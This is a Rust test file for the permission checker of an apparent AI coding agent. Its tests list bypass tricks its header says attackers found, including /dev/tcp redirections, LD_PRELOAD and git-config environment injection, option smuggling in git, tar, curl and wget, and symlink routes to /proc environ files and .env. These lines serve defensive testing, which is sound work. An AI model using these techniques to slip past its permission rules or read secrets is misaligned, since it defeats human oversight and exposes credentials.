//! Ways around permissions that were found by attackers, by class, and everyday lines that look like them.

use std::path::{Path, PathBuf};

use ah_conversation::{Decision, PermissionMode};

use super::super::{Files, analyze};
use super::{decide, in_w, permissions};

/// Whether the line runs unasked in mode `default` with these allow rules.
fn runs(allow: &[&str], line: &str) -> bool {
    let permissions = permissions(PermissionMode::Default, allow, &[]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// Whether the line runs unasked in mode `bypassPermissions` with this deny rule.
fn bypasses(deny: &str, line: &str) -> bool {
    let permissions = permissions(PermissionMode::BypassPermissions, &[], &[deny]);
    decide(&permissions, line, &in_w) == Decision::Allow
}

/// A file of the project may have the name of a wrapper.
#[test]
fn a_wrapper_is_transparent_only_in_a_folder_of_the_system() {
    for wrapper in [
        "nice",
        "nice -n 5",
        "timeout 5",
        "nohup",
        "stdbuf -o0",
        "time",
        "builtin",
        "ionice -c 3",
    ] {
        for (folder, is_transparent) in [
            ("", true),
            ("/bin/", true),
            ("/usr/bin/", true),
            ("/usr/local/bin/", true),
            ("./", false),
            ("bin/", false),
            ("../bin/", false),
            ("/w/", false),
            ("/tmp/usr/bin/", false),
            ("/usr/bin/../../w/", false),
            ("~/", false),
        ] {
            let line = format!("{folder}{wrapper} ls");
            assert_eq!(runs(&[], &line), is_transparent, "{line}");
            let line = format!("{folder}{wrapper} rm x");
            assert!(!bypasses("Bash(rm:*)", &line), "{line}");
        }
    }
}

#[test]
fn a_redirection_to_a_connection_is_no_reading() {
    for line in [
        "cat < /dev/tcp/h/80",
        "cat </dev/udp/h/80",
        "cat < '/dev/tcp/h/80'",
        "cat < \"/dev/tcp/h/80\"",
        "cat < /dev/tcp/h/$PORT",
        "cat < /dev/tc[p]/h/80",
        "cat < //dev//tcp/h/80",
        "exec 3<>/dev/tcp/h/80; cat <&3",
        "exec 3< /dev/tcp/h/80",
        "ls 2>/dev/tcp/h/80",
        "ls &>/dev/tcp/h/80",
        "ls >& /dev/tcp/h/80",
        "ls >> /dev/tcp/h/80",
        "echo \"$(cat < /dev/tcp/h/80)\"",
        "(ls) < /dev/tcp/h/80",
        "bash -c 'cat < /dev/tcp/h/80'",
    ] {
        let allow = [
            "Bash(cat:*)",
            "Bash(exec:*)",
            "Bash(bash:*)",
            "Bash(echo:*)",
        ];
        for mode in PermissionMode::ALL {
            let is_free = mode == PermissionMode::BypassPermissions;
            let permissions = permissions(mode, &allow, &[]);
            let decision = decide(&permissions, line, &in_w);
            assert_eq!(decision == Decision::Allow, is_free, "{line} in {mode:?}");
        }
    }
    for line in [
        "cat < /dev/null",
        "cat < dev/tcp/h/80",
        "ls < /dev/tcp",
        "cat /dev/tcp/h/80",
    ] {
        assert!(runs(&[], line), "{line}");
    }
}

#[test]
fn variables_that_start_programs_do_not_hide_one() {
    for assignment in [
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.z GIT_CONFIG_VALUE_0='!touch pw'",
        "GIT_CONFIG_PARAMETERS=\"'alias.z'='!touch pw'\"",
        "GIT_CONFIG_GLOBAL=evil",
        "GIT_CONFIG=evil",
        "GIT_EXEC_PATH=.",
        "GIT_TEMPLATE_DIR=.",
        "GIT_ALLOW_PROTOCOL=ext",
        "GIT_EXTERNAL_DIFF='touch pw'",
        "GIT_PAGER='touch pw'",
        "GIT_TRACE=$PWD/pw",
        "PAGER='touch pw'",
        "VISUAL='touch pw'",
        "GIT_SSH='touch'",
        "SSH_ASKPASS='touch pw'",
        "LESSOPEN='|touch pw'",
        "LESS='+!touch pw'",
        "LD_PRELOAD=./evil.so",
        "DYLD_INSERT_LIBRARIES=./evil.so",
        "BASH_ENV=evil",
        "ENV=./evil",
        "NODE_OPTIONS='--require ./evil'",
        "NODE_OPTIONS=--no-warnings\\ -r./evil",
        "PERL5OPT=-Mevil",
        "RUBYOPT=-revil",
        "PYTHONSTARTUP=evil",
        "JAVA_TOOL_OPTIONS='-Xmx1g -XX:OnError=touch'",
        "TAR_OPTIONS='--checkpoint-action=exec=touch'",
        "GOFLAGS=-toolexec=touch",
        "MAKEFLAGS=--eval=x",
        "npm_config_script_shell=./evil",
        "RIPGREP_CONFIG_PATH=evil",
        "FZF_DEFAULT_COMMAND='touch pw'",
    ] {
        for line in [
            format!("{assignment} git z"),
            format!("export {assignment}; git z"),
            format!("env {assignment} git z"),
            format!("bash -c {}", quoted(&format!("{assignment} git z"))),
        ] {
            assert!(!bypasses("Bash(touch:*)", &line), "{line}");
        }
    }
    for line in [
        "GIT_CONFIG_GLOBAL=/dev/null git log",
        "GIT_CONFIG_NOSYSTEM=1 git log",
        "GIT_TERMINAL_PROMPT=0 git fetch",
        "GIT_TRACE=1 git fetch",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "NODE_OPTIONS='--no-warnings --enable-source-maps' npm test",
        "PAGER=cat git log",
        "LESS=FRX git log",
        "RUSTFLAGS='-D warnings' cargo build",
        "JAVA_TOOL_OPTIONS='-Xmx2g -Dfile.encoding=UTF-8' mvn test",
        "ENV=production npm start",
        "PYTHONPATH=src pytest",
        "A=b make",
    ] {
        assert!(bypasses("Bash(touch:*)", line), "{line}");
    }
}

fn quoted(line: &str) -> String {
    format!("'{}'", line.replace('\'', "'\\''"))
}

#[test]
fn addresses_of_files_are_decoded() {
    for line in [
        "curl file:///w/%2eenv",
        "curl file:///w/%2Een%76",
        "curl FILE:///w/%2eenv",
        "curl file://localhost/w/%2eenv",
        "curl 'file:///w/%2eenv?x#y'",
        "curl file:///w/.env?x",
        "curl file:/w/.env",
        "curl --url file:///w/%2eenv",
        "curl --url=file:///w/%2eenv",
        "curl 'file:///w/.{e}nv'",
        "curl 'file:///w/.[e-e]nv'",
        "curl 'f{i}le:///w/%2eenv'",
        "curl '{file:///w/.env,http://h}'",
        "tool-nobody-knows file:///w/%2eenv",
    ] {
        assert!(!bypasses("Read(.env)", line), "{line}");
    }
    for line in [
        "curl http://h/%2ee",
        "curl -d '{\"a\": [1]}' http://h/x",
        "curl 'http://[::1]:80/'",
        "curl file:///w/env",
        "curl file:///w/%zz%2",
        "grep file: src",
    ] {
        assert!(bypasses("Read(.env)", line), "{line}");
    }
}

/// Options that start programs or write files, which a rule for the program does not cover.
const OPTIONS: &[(&str, &[&str])] = &[
    (
        "git",
        &[
            "git grep -O'touch pw;true' foo",
            "git grep -nO'touch pw;true' foo",
            "git grep -O foo",
            "git grep --open-files-in-pager='touch pw' foo",
            "git grep --open='touch pw' foo",
            "git clone -u 'touch pw' x y",
            "git clone -qu 'touch pw' x y",
            "git clone -u'touch pw' x y",
            "git clone --upload-pack='touch pw' x y",
            "git clone --template=evil x",
            "git clone --conf core.fsmonitor=touch x",
            "git clone -c core.fsmonitor=touch x",
            "git init --template=evil",
            "git rebase -x'touch pw' x",
            "git rebase -ix 'touch pw' x",
            "git rebase -ix'touch pw' x",
            "git rebase --exe 'touch pw' x",
            "git filter-branch --tree-filter 'touch pw'",
            "git filter-branch -f --msg-filter 'touch pw'",
            "git submodule -q foreach 'touch pw'",
            "git submodule --quiet foreach touch pw",
            "git submodule foreach -q 'touch pw'",
            "git submodule foreach --recursive --quiet 'touch pw'",
            "git submodule--helper foreach 'touch pw'",
            "git bisect visualize gitk/../touch pw",
            "git difftool -yx 'touch pw'",
            "git difftool --extcmd='touch pw'",
            "git remote-ext x 'touch pw'",
            "git merge-index 'touch pw' -a",
            "git -C x grep -O'touch pw' foo",
            "git ls-remote --exec='touch pw' x",
            "git push --receive-pack 'touch pw' x",
            "git log --output=pw",
            "git log -p --outp pw",
            "git format-patch -opw x",
            "git format-patch -ko pw x",
            "git archive -vo pw x",
            "git apply --unsafe-paths x",
            "git config -f pw a.b c",
            "git config --file pw a.b c",
            "git fast-export --export-marks=pw",
            "git log $(echo --output=pw)",
            "git log \"$(echo --output=pw)\"",
            "git log `cat x`",
            "git log $(git log --format=%s -1)",
            "git log HEAD$(echo ' --output=pw')",
            "for f in --output=pw; do git log $f; done",
            "for f in 'a --output=pw'; do git log $f; done",
            "for f in $(echo --output=pw); do git log \"$f\"; done",
            "bash -c 'git log \"$1\"' _ --output=pw",
            "echo --output=pw | xargs git log",
            "git z --made-up",
        ],
    ),
    (
        "sort",
        &[
            "sort -o pw a",
            "sort -uopw a",
            "sort --out pw a",
            "sort --compress-program='touch pw' a",
            "sort $(echo -opw)",
            "sort -Z a",
        ],
    ),
    (
        "uniq",
        &[
            "uniq - pw",
            "uniq a pw",
            "uniq -c a pw",
            "uniq -f 1 a pw",
            "uniq -- -a pw",
            "uniq a*",
            "uniq $(echo a pw)",
        ],
    ),
    (
        "tree",
        &[
            "tree -o pw",
            "tree -Ao pw",
            "tree -ao pw x",
            "tree -Lo 1 pw",
            "tree -oL pw 1",
            "tree -R -L 1",
            "tree --output pw",
        ],
    ),
    (
        "less",
        &[
            "less -opw a",
            "less -Ropw a",
            "less -b5Opw a",
            "less '-Pa$Opw' a",
            "less --log-file=pw a",
            "less -kkeys a",
            "less '+!touch pw' a",
            "less -ta",
            "less '+G!touch pw' a",
        ],
    ),
    (
        "curl",
        &[
            "curl -s -T a.txt file:///w/pw",
            "curl -sTa.txt FILE:///w/.git/hooks/%70re-commit",
            "curl --upload-file a.txt file://localhost/w/pw",
            "curl -a -T a.txt --url file:///w/pw",
            "curl -T a.txt --url=file:///w/pw",
            "curl --proto-default file -T a.txt /w/pw",
            "curl -T a.txt 'f{i}le:///w/pw'",
            "curl -T a.txt 'file:///w/p[w]'",
            "curl -T a.txt $U",
            "curl -T a.txt --url \"$U\"",
            "curl -o pw http://h",
            "curl -sSLo pw http://h",
            "curl -Dpw http://h",
            "curl -K cfg",
            "curl --config cfg",
            "curl --libcurl pw http://h",
            "curl --output-dir d -O http://h/x",
            "curl -O http://h/pw",
            "curl --remote-name http://h/pw?x",
            "curl -OJ http://h/x",
            "curl -w '%output{pw}' http://h",
            "curl -w @fmt http://h",
            "curl -sw@fmt http://h",
            "curl --write-out '%output{>>pw}' http://h",
            "curl -o '#1' 'http://h/{pw}'",
            "curl --trace pw http://h",
            "curl --variable %HOME --expand-output '{{HOME}}' http://h",
            "curl -c pw http://h",
            "curl --unix-socket /run/x.sock http://h",
        ],
    ),
    (
        "wget",
        &[
            "wget http://h/.envrc",
            "wget -N http://h/pw",
            "wget $U",
            "wget http://h/%2eenvrc",
            "wget -x -nH http://h/.git/config",
            "wget -r -nH http://h",
            "wget -m http://h",
            "wget -p http://h",
            "wget -i urls",
            "wget --input-file=urls",
            "wget --delete-after http://h/pw",
            "wget --spider --no-spider http://h/pw",
            "wget --spider=no http://h/pw",
            "wget --spider -r http://h/pw",
            "wget --accept -O- http://h/pw",
            "wget --referer --spider http://h/pw",
            "wget -O pw http://h",
            "wget -4qO pw http://h",
            "wget -qO- -o pw http://h",
            "wget -a pw http://h",
            "wget -P d http://h",
            "wget --directory-prefix=d http://h",
            "wget --save-cookies pw http://h",
            "wget --use-askpass=touch http://h",
            "wget -e output_document=pw http://h",
            "wget --config=cfg http://h",
            "wget --warc-file=pw http://h",
        ],
    ),
    (
        "tar",
        &[
            "tar cf pw x",
            "tar xf a",
            "tar xzf a --transform s,a,.git/hooks/a,",
            "tar xf a -C d",
            "tar -xf a --to-command='touch pw'",
            "tar xPf a",
            "tar xf h:a",
            "tar xf a --use-compress-program='touch pw'",
            "tar xf a --checkpoint-action=exec='touch pw'",
            "tar -xf a $(echo --to-command=touch)",
            "tar cf - x --volno-file=pw",
        ],
    ),
    (
        "rg",
        &[
            "rg --pre 'touch pw' x",
            "rg --pre='touch pw' x",
            "rg --hostname-bin 'touch pw' x",
            "rg --made-up x",
            "rg $(echo --pre=touch) x",
        ],
    ),
    (
        "find",
        &[
            "find . -fprint pw",
            "find . -name x -fprintf pw %p",
            "find . -exec touch pw +",
            "find . -made-up x",
            "find . -fls pw",
        ],
    ),
];

#[test]
fn a_rule_for_a_program_does_not_cover_what_its_options_name() {
    for (program, lines) in OPTIONS {
        let rule = format!("Bash({program}:*)");
        let allow = [
            rule.as_str(),
            "Bash(xargs:*)",
            "Bash(bash:*)",
            "Bash(cat:*)",
        ];
        for line in *lines {
            assert!(!runs(&allow, line), "{line}");
            let exact = line.replace('\\', "\\\\").replace('*', "\\*");
            assert!(runs(&[&format!("Bash({exact})")], line), "{line} exactly");
        }
    }
    for (rule, line, is_enough) in [
        ("Bash(git z --made-up:*)", "git z --made-up x", true),
        ("Bash(git z:*)", "git z --made-up x", false),
        (
            "Bash(git z --made-up:*)",
            "git z --made-up x --other",
            false,
        ),
        ("Bash(git grep -O:*)", "git grep -O foo", true),
        ("Bash", "git z --made-up x", true),
    ] {
        assert_eq!(runs(&[rule], line), is_enough, "{line} by {rule}");
    }
}

#[test]
fn denied_programs_do_not_run_by_options_that_are_not_known() {
    for (_, lines) in OPTIONS {
        for line in lines.iter().filter(|line| line.contains("touch")) {
            assert!(!bypasses("Bash(touch:*)", line), "{line}");
        }
    }
}

/// Everyday calls need no more than a rule for the program.
#[test]
fn a_rule_for_a_program_covers_harmless_options() {
    for line in [
        "git log --oneline --graph --decorate --all -20",
        "git log -p -U3 -M -S'foo bar' --since='2 weeks ago' -- src",
        "git log -n 5 --pretty=format:'%h %s' --no-merges --author me",
        "git log --stat -1 HEAD~3..HEAD",
        "git -C sub --no-pager log -5",
        "git -c color.ui=always status -sb",
        "git show --stat --format=%B HEAD",
        "git show $(git rev-parse HEAD)",
        "git diff $(git merge-base main HEAD)...HEAD --stat",
        "git show $(git log -1 --format=%H)",
        "git diff --cached --name-only --diff-filter=ACM -w",
        "git diff -U0 --word-diff=color HEAD -- '*.rs'",
        "git status --porcelain=v2 -uno",
        "git add -A",
        "git add -p src/*.rs",
        "git commit -am 'a: b'",
        "git commit -m \"$(cat <<'EOF'\nfix: x\n\n- one\nEOF\n)\"",
        "git commit --amend --no-edit --no-verify",
        "git commit --fixup HEAD -S",
        "git push -u origin HEAD --force-with-lease",
        "git pull --rebase --autostash",
        "git fetch --all --prune --tags -j4",
        "git checkout -b feature origin/main",
        "git switch -c x",
        "git restore --staged --source=HEAD~1 a",
        "git branch -vv --sort=-committerdate",
        "git branch -D x",
        "git stash push -u -m wip",
        "git rebase -i --autosquash HEAD~3",
        "git rebase --onto main a b",
        "git cherry-pick -x abc",
        "git merge --no-ff -m 'x' b",
        "git reset --hard HEAD~1",
        "git blame -L 10,20 -w a.rs",
        "git grep -n -e foo --and -e bar -- src",
        "git grep -lE 'a|b'",
        "git ls-files -o --exclude-standard",
        "git rev-parse --abbrev-ref --symbolic-full-name @{u}",
        "git rev-list --count HEAD",
        "git tag -a v1 -m v1",
        "git remote add -f up x",
        "git worktree add -b x ../y",
        "git submodule update --init --recursive",
        "git clone --depth 1 -b main x y",
        "git config --global user.name",
        "git cat-file -p HEAD",
        "git cat-file --batch-command --buffer",
        "git cat-file --textconv --path=a HEAD",
        "git ls-files --stage",
        "git hash-object --path=a --stdin",
        "git notes --ref=x show HEAD",
        "git shortlog -sne",
        "git describe --tags --always --dirty",
        "git clean -nfdx",
        "git bisect start HEAD v1",
        "git archive --format=tar --prefix=x/ HEAD",
        "git format-patch -3 --stdout",
        "git apply --check -p1 x.patch",
        "git am -3 x.patch",
        "for f in a b; do git add $f; done",
        "git ls-files -z | xargs -0 git add --",
        "sort -t: -k2,2nr -u a",
        "sort --parallel=4 -S 50% a",
        "uniq -c a",
        "uniq -f 1 --ignore-case",
        "tree -L 2 -a -I 'target|.git'",
        "tree --dirsfirst --gitignore src",
        "less -RFX a",
        "less -N +10 a",
        "less +G a",
        "curl -fsSL -H 'A: b' --max-time 10 http://h",
        "curl -X POST -d '{\"a\": \"-o\"}' -u a:b http://h",
        "curl -s -o /dev/null -w '%{http_code}\\n' http://h",
        "curl -sI --retry 3 http://h",
        "curl --json '{}' --compressed http://h",
        "curl -F file=@x http://h",
        "curl -T a.txt http://h/a",
        "curl -T a.txt \"https://h/$X\"",
        "curl -so - http://h",
        "wget -q -nv -nc --tries=3 -T 5 -O - http://h",
        "wget --spider -q http://h/a",
        "wget -qO- http://h",
        "wget -np -l 2 -qO- --header 'A: b' http://h",
        "wget --no-check-certificate -S --spider http://h",
        "tar tzf a.tgz",
        "tar -xOzvf a.tgz --strip-components=1",
        "tar czf - --exclude=x y",
        "tar --create --gzip --verbose . --exclude-vcs",
        "rg -n -g '*.rs' -t rust -A3 -C 2 foo src",
        "rg --files --hidden --no-ignore -uu",
        "rg -e foo -e bar --json -i -w -S -F",
        "find . -name '*.rs' -mtime -7 -size +1k -not -path './x/*' -print0",
        "find . -type f -newermt -2days -perm -u+x -delete",
    ] {
        let allow = [
            "git", "sort", "uniq", "tree", "less", "curl", "wget", "tar", "rg", "find", "xargs",
        ];
        let allow = allow.map(|program| format!("Bash({program}:*)"));
        let allow: Vec<_> = allow.iter().map(String::as_str).collect();
        assert!(runs(&allow, line), "{line}");
        assert!(
            bypasses("Bash(touch:*)", line),
            "{line} where another program is denied"
        );
    }
}

/// Files in `/w`: the folder `s` with the file `key`, the links `tx` to it, `self` to `/w` and `link` to `/proc`, and plain files; and
/// `/dev/fd`, which leads to a process.
struct World;

impl World {
    /// Follows the links in a path, and `..` behind them.
    fn real(path: &Path) -> PathBuf {
        let mut real = PathBuf::new();
        for part in path {
            match part.to_str().unwrap() {
                ".." => drop(real.pop()),
                "." => {}
                part => real.push(part),
            }
            real = match real.to_str().unwrap() {
                "/w/tx" => "/w/s".into(),
                "/w/self" => "/w".into(),
                "/w/link" => "/proc".into(),
                "/w/sub/up" => "/".into(),
                "/dev/fd" => "/proc/1/fd".into(),
                _ => real,
            };
        }
        real
    }
}

impl Files for World {
    fn resolve(&self, name: &str) -> PathBuf {
        Self::real(&Path::new("/w").join(name))
    }

    fn behind_links(&self, path: &Path) -> PathBuf {
        Self::real(path)
    }

    fn may_be_folder(&self, path: &Path) -> bool {
        !["/w/a.rs", "/w/s/key", "/w/x"]
            .iter()
            .any(|file| path == Path::new(file))
    }

    fn names_in(&self, folder: &Path, _: usize) -> Option<Vec<String>> {
        let names: &[&str] = match Self::real(folder).to_str().unwrap() {
            "/w" => &["a.rs", "b.rs", "link", "s", "sub", "tx"],
            "/w/s" => &["key"],
            "/w/sub" => &["c.rs", "up"],
            "/dev" => &["fd", "full"],
            "/" => &["dev", "proc", "w"],
            "/w/options" => &["--output=pw", "-o", "x"],
            "/many" => return Some((0..1001).map(|name| name.to_string()).collect()),
            "/unknown" => return None,
            _ => &[],
        };
        Some(names.iter().map(|name| (*name).to_owned()).collect())
    }

    fn repository_starts_nothing(&self) -> bool {
        false
    }
}

#[test]
fn what_is_looked_at_behind_links_is_seen() {
    for (line, expected) in [
        ("cat sub/u*/etc/x", "/etc/x"),
        ("ls sub/u*", "/**"),
        ("ls t*", "/w/s/**"),
    ] {
        let commands = analyze(line, &World).line.commands.unwrap();
        assert!(commands[0].files.seen.contains(&expected.into()), "{line}");
    }
}

#[test]
fn patterns_are_followed_through_links_to_processes() {
    let plain = permissions(PermissionMode::Default, &[], &[]);
    for (line, runs) in [
        ("cat /dev/f*/../../1/environ", false),
        ("cat /dev/f*/../../self/cwd/.env", false),
        ("cat /dev/f*/../../self/root$HOME/x", false),
        ("cat [l]ink/1/environ", false),
        ("cat l*/1/environ", false),
        ("cat ./l?nk/1/environ", false),
        ("cat 'l'*/1/environ", false),
        ("cat \"l\"[i]nk/1/environ", false),
        ("ls l*/1/fd", false),
        ("ls \"l\"*/1/fd", false),
        ("stat l*/1/exe", false),
        ("cat sub/u*/proc/1/environ", false),
        ("cat sub/*/p*/1/environ", false),
        ("cd sub && cat u*/proc/1/environ", false),
        ("cd sub && cat ../l*/1/environ", false),
        ("grep -r KEY l*", false),
        ("cat */../link/1/environ", false),
        ("cat /many/*", false),
        ("cat /unknown/*", false),
        ("cat *.rs", true),
        ("cat sub/*.rs", true),
        ("cat */*.rs", true),
        ("cat s*/key", true),
        ("cat none*/x", true),
        ("ls s*", true),
        ("ls *", false),
        ("cat ../w/*.rs", true),
        ("echo *", true),
    ] {
        let line_runs = decide(&plain, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line}");
        assert!(runs || !analyze(line, &World).line.harmless, "{line}");
    }
}

/// A link to the working directory may lead elsewhere when the line comes to it.
#[test]
fn a_link_to_the_working_directory_is_another_folder_where_links_are_made() {
    let allow = ["Bash(git:*)", "Bash(ln:*)"];
    let permissions = permissions(PermissionMode::Default, &allow, &[]);
    for (line, runs) in [
        ("cd /w/self && git status", true),
        ("cd /w && git status", true),
        ("ln -s a b; cd /w && git status", true),
        ("ln -sfn /evil self; cd /w/self && git status", false),
        ("cd self && git status", false),
    ] {
        let line_runs = decide(&permissions, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line}");
    }
}

#[test]
fn a_pattern_may_stand_for_an_option() {
    let git = permissions(
        PermissionMode::Default,
        &["Bash(cd:*)", "Bash(git:*)", "Bash(sort:*)"],
        &[],
    );
    for (line, runs) in [
        ("git log *", true),
        ("cd options && git log *", false),
        ("cd options && git log [-]*", false),
        ("cd options; git log ?-o*", false),
        ("cd options && sort ?o", false),
        ("cd options && sort -- *", true),
        ("cd options && sort ./*", true),
        ("cd options && sort x*", true),
        ("git log options/*", true),
    ] {
        let line_runs = decide(&git, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line}");
    }
}

#[test]
fn patterns_are_followed_through_links_to_files_of_rules() {
    for (rule, line, runs) in [
        ("Read(s/**)", "cat t?/key", false),
        ("Read(s/**)", "cat t*/k*", false),
        ("Read(s/**)", "cat [t]x/key", false),
        ("Read(s/**)", "cat ./t?/../s/key", false),
        ("Read(s/**)", "grep -r x t?", false),
        ("Read(s/**)", "cp -r t? other", false),
        ("Read(s/key)", "cat t?/key", false),
        ("Read(.env)", "cat /dev/f*/../../self/cwd/.env", false),
        ("Edit(s/**)", "tee t?/key", false),
        ("Edit(s/**)", "rm t?/key", false),
        ("Edit(s/**)", "touch t?/new", false),
        // Something before it in the line may have made the link.
        ("Read(s/**)", "ln -s . d; cat d*/s/key", false),
        ("Read(s/**)", "mv up d && cat d*/s/key", false),
        ("Read(s/**)", "tar xf a.tar; cat d*/s/key", false),
        ("Read(s/**)", "python3 x.py; cat d*/s/key", false),
        ("Read(s/**)", "sh -c 'ln -s . d; cat d*/s/key'", false),
        // In a folder that is searched, a link may lead anywhere.
        ("Read(s/**)", "grep -R x sub", false),
        ("Read(s/**)", "grep --deref x sub", false),
        ("Read(s/**)", "diff -r a sub", false),
        ("Read(s/**)", "git diff --no-index . sub", false),
        ("Read(s/**)", "git diff . sub", false),
        ("Read(s/**)", "git diff --no-index sub/a sub/b", true),
        ("Read(s/**)", "git diff main other", true),
        ("Read(s/**)", "git diff", true),
        ("Read(s/**)", "rg --follow x sub", false),
        ("Read(s/**)", "cp -rL sub other", false),
        ("Read(s/**)", "zip -r a.zip sub", false),
        ("Read(s/**)", "grep -r x sub", true),
        ("Read(s/**)", "diff a sub/x", true),
        ("Read(s/**)", "rg x sub", true),
        ("Read(.env)", "rg x sub", false),
        ("Read(.env)", "rg x a.rs", true),
        ("Read(.env)", "mkdir a.rs; rg x a.rs", false),
        ("Read(s/**)", "rg x s/key", false),
        ("Read(s/**)", "cat *.rs", true),
        ("Read(s/**)", "cat sub/*.rs", true),
        ("Read(s/**)", "cat sub/u*/x", true),
        ("Read(s/**)", "make && cat sub/*/x", true),
        ("Read(s/**)", "python3 x.py sub/*/x", true),
        ("Read(s/**)", "timeout 5 python3 x.py sub/*/x", true),
        ("Read(s/**)", "python3 x.py; cat *.rs", true),
        ("Read(s/**)", "git add . && cat sub/*/x", true),
        ("Read(s/**)", "rm t?/key", true),
    ] {
        let permissions = permissions(PermissionMode::BypassPermissions, &[], &[rule]);
        let line_runs = decide(&permissions, line, &World) == Decision::Allow;
        assert_eq!(line_runs, runs, "{line} with {rule}");
    }
}
